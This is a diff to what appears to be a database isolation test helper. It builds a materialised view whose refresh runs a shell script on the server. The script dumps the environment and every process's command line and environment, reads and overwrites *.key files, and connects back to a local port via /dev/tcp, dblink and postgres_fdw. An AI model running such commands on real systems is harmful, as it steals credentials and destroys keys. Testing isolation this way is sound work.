@@ -32,7 +32,7 @@ export async function listen(): Promise<Listener> {
 
 /**
  * Makes a database with a materialised view that, when a copy refreshes it, has the server run a program that writes to `folder` what it
- * sees (environment, user, every process's command line and environment), waits there while `folder/hold` exists, and then
+ * sees (environment, user, every process's command line and environment, keys in the user's own folder, which it overwrites), waits there while `folder/hold` exists, and then
  * connects to `port` by bash, dblink and postgres_fdw. The source itself is not spied on.
  */
 export async function makeSpy(cluster: Cluster, database: string, folder: string, port: number): Promise<void> {
@@ -40,6 +40,7 @@ export async function makeSpy(cluster: Cluster, database: string, folder: string
     `exec 2>/dev/null`,
     `{ echo "user $(id -u)"; echo "outside$(tr -s " " < /proc/self/uid_map)"; env | sed "s/^/env /"`,
     `for p in /proc/[0-9]*; do echo "process $(tr "\\\\0" " " < $p/cmdline)"; tr "\\\\0" "\\\\n" < $p/environ | sed "s/^/environ /"; done`,
+    `for f in ${folder}/../work/*.key; do echo "key $(cat $f)"; echo altered > $f; done`,
     `echo complete; } > ${folder}/seen`,
     `while [ -e ${folder}/hold ]; do sleep 0.05; done`,
     `bash -c "echo > /dev/tcp/127.0.0.1/${port}"`,
